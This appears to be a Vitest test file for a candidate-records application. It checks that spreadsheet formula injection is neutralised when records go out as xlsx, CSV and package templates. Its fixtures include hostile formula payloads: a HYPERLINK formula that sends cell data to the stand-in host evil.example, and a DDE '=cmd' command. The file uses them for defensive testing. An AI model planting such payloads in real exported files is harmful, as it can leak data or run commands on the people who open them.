import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { CandidateImportPreview, CandidatePage, CandidateRow } from '../../src-shared/api/candidates';
import type { JobInfo } from '../../src-shared/api/jobs';
import type { AppCore } from '../../src-main/core/app-core';
import { CLI_ACTOR } from '../../src-shared/actor';
import { candidateExportJob } from '../../src-main/core/candidates/export-job';
import { fakePeople } from '../../src-main/core/demo/fake-people';
import { readPackage } from '../../src-main/pipelines/packages/read-package';
import { zipEntries } from '../fixtures/package-fixtures';
import { call, setUpApp } from '../helpers/app';
import { tempDir } from '../helpers/temp-dir';

const ACTOR = { name: 'principal', id: 1, role: 'principal' as const };

/**
 * Text a spreadsheet would take for a formula, as schools might really type it (and as an
 * attacker would). Names are 2–30 Han characters by rule, so only free-text fields can hold it.
 */
const FORMULA_MAJORS = ['=HYPERLINK("http://evil.example/?d="&C2,"点此查看")', '+86 物流管理', '-数控技术', '@电子商务', "'=SUM(1,2)", '=1+1,"逗号"'];
const FORMULA_EMPLOYERS = ["=cmd|'/c calc'!A1", '@烟台港集团', '-', '+'];

async function seed(app: AppCore, session: string): Promise<void> {
  const people = fakePeople(FORMULA_MAJORS.length + FORMULA_EMPLOYERS.length + 2, 61);
  for (const [i, p] of people.entries()) {
    const base = { name: p.name, idNumber: p.idNumber, phone: p.phone };
    if (i < FORMULA_MAJORS.length + 1)
      await call(app, 'candidates.create', { ...base, kind: 'school', major: FORMULA_MAJORS[i] ?? p.major, majorLevel: p.majorLevel, entryYear: p.entryYear }, session);
    else await call(app, 'candidates.create', { ...base, kind: 'social', education: '大专', employer: FORMULA_EMPLOYERS[i - FORMULA_MAJORS.length - 1] ?? '烟台港集团' }, session);
  }
}

async function exportFile(app: AppCore, session: string, input: Record<string, unknown>): Promise<string> {
  const job = await app.jobs.wait((await call<JobInfo>(app, 'candidates.export', input, session)).id);
  const file = await call<{ fileId: string }>(app, 'jobs.file', { id: job.id, key: 'export' }, session);
  return app.files.resolve(file.fileId, ACTOR).path;
}

async function updatePreview(app: AppCore, session: string, path: string, kind: 'school' | 'social'): Promise<CandidateImportPreview> {
  const fileId = app.files.register(path, path.split('/').pop()!, ACTOR).fileId;
  const job = await app.jobs.wait((await call<JobInfo>(app, 'candidates.importPreview', { fileId, kind, mode: 'update' }, session)).id);
  return job.result as CandidateImportPreview;
}

async function firstSheet(path: string): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  return wb.worksheets[0]!;
}

/** Column `header` of every data row, as the cells hold it. */
function column(ws: ExcelJS.Worksheet, header: string): unknown[] {
  const col = (ws.getRow(1).values as unknown[]).indexOf(header);
  const out: unknown[] = [];
  ws.eachRow((row, n) => {
    if (n > 1) out.push(row.getCell(col).value);
  });
  return out;
}

const stored = (app: AppCore, field: 'major' | 'employer') =>
  (app.store.db.prepare(`SELECT ${field} AS v FROM candidates WHERE ${field} IS NOT NULL ORDER BY id`).all() as { v: string }[]).map((r) => r.v);

describe('export → 批量修改 round trip with formula-looking text', () => {
  it('the xlsx holds the original text in Text cells (no formula anywhere), and comes back unchanged', async () => {
    const { app, principal } = await setUpApp();
    await seed(app, principal);
    expect(stored(app, 'major').slice(0, FORMULA_MAJORS.length)).toEqual(FORMULA_MAJORS);
    expect(stored(app, 'employer').slice(0, FORMULA_EMPLOYERS.length)).toEqual(FORMULA_EMPLOYERS);

    for (const [kind, header, texts] of [
      ['school', '就读专业', FORMULA_MAJORS],
      ['social', '工作单位', FORMULA_EMPLOYERS],
    ] as const) {
      const path = await exportFile(app, principal, { kind });
      const ws = await firstSheet(path);
      expect(column(ws, header).slice(0, texts.length)).toEqual(texts);
      const col = (ws.getRow(1).values as unknown[]).indexOf(header);
      // Formula-looking text is a Text cell, so that editing it in Excel keeps it text.
      for (let r = 2; r < 2 + texts.length; r++) if (/^[=+\-@]/.test(texts[r - 2]!)) expect(ws.getRow(r).getCell(col).numFmt, texts[r - 2]).toBe('@');
      const sheetXml = (await zipEntries(path)).find((e) => e.name === 'xl/worksheets/sheet1.xml')!.data.toString('utf8');
      expect(sheetXml).not.toMatch(/<f[\s>]/);

      const back = await updatePreview(app, principal, path, kind);
      expect(back.counts, kind).toEqual({ new: 0, updated: 0, unchanged: texts.length + 1, refused: 0 });
    }
  });

  it('the CSV neutralises them with an apostrophe that our import takes off again', async () => {
    const { app, principal } = await setUpApp();
    await seed(app, principal);
    for (const kind of ['school', 'social'] as const) {
      const path = join(tempDir(), `${kind}.csv`);
      await app.jobs.run(candidateExportJob, { kind, outFile: path }, { title: '导出考生', actor: CLI_ACTOR, owner: null });
      const text = readFileSync(path, 'utf8');
      expect(text.startsWith('\uFEFF')).toBe(true);
      if (kind === 'school') {
        expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?d=""&C2,""点此查看"")"');
        expect(text).toContain(",'-数控技术,");
        expect(text).toContain(`,"''=SUM(1,2)",`);
        expect(text).toContain('"\'=1+1,""逗号"""');
      }
      // No field of a record starts with a formula character.
      for (const line of text.slice(1).split('\r\n').filter(Boolean))
        for (const f of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((m) => m.replace(/,$/, '').replace(/^"/, ''))) expect(f, line).not.toMatch(/^[=+\-@]/);

      const back = await updatePreview(app, principal, path, kind);
      expect(back.counts, kind).toEqual({ new: 0, updated: 0, unchanged: kind === 'school' ? FORMULA_MAJORS.length + 1 : FORMULA_EMPLOYERS.length + 1, refused: 0 });
    }
  });

  it('the platform package’s templates hold the original text too', async () => {
    const { app, principal } = await setUpApp();
    await seed(app, principal);
    const done = await app.jobs.wait((await call<JobInfo>(app, 'packages.export', { kinds: ['candidates'], includeIncomplete: true }, principal)).id);
    const pkg = await readPackage((done.result as { path: string }).path, 'out.zip', { institutionCode: '4137014320', trustedKeys: [], allowUnsigned: true, direction: 'out' });
    for (const [file, header, texts] of [
      ['candidates/院校考生.xlsx', '就读专业', FORMULA_MAJORS],
      ['candidates/社会考生.xlsx', '工作单位', FORMULA_EMPLOYERS],
    ] as const) {
      const path = join(tempDir(), 'template.xlsx');
      writeFileSync(path, pkg.extraFiles.get(file)!);
      expect(column(await firstSheet(path), header).slice(0, texts.length)).toEqual(texts);
    }
  });
});

describe('导出当前视图 follows the list', () => {
  it('writes the rows in the order the list shows them, for each sort and direction; without a sort, in import order', async () => {
    const { app, principal } = await setUpApp();
    const people = fakePeople(40, 62);
    for (const p of people)
      await call(
        app,
        'candidates.create',
        { kind: 'school', name: p.name, idNumber: p.idNumber, phone: p.phone, major: p.major, majorLevel: p.majorLevel, entryYear: p.entryYear },
        principal,
      );
    const major = people[0]!.major;
    const list = async (input: Record<string, unknown>) =>
      (await call<CandidatePage>(app, 'candidates.list', { ...input, limit: 500 }, principal)).rows.map((r: CandidateRow) => r.idNumber);
    for (const view of [
      { kind: 'school', major, sort: 'namePinyin', order: 'asc' },
      { kind: 'school', sort: 'namePinyin', order: 'desc' },
      { kind: 'school', sort: 'entryYear', order: 'desc' },
      { kind: 'school', sort: 'idNumber', order: 'asc' },
      { kind: 'school', sort: 'updatedAt', order: 'desc' },
    ]) {
      const shown = await list(view);
      expect(shown.length, JSON.stringify(view)).toBeGreaterThan(1);
      expect(column(await firstSheet(await exportFile(app, principal, view)), '身份证号'), JSON.stringify(view)).toEqual(shown);
    }
    // The list by pinyin is not the import order, so the first case above proves something.
    expect(await list({ kind: 'school', sort: 'namePinyin', order: 'asc' })).not.toEqual(people.map((p) => p.idNumber));
    expect(column(await firstSheet(await exportFile(app, principal, { kind: 'school' })), '身份证号')).toEqual(people.map((p) => p.idNumber));
  });
});
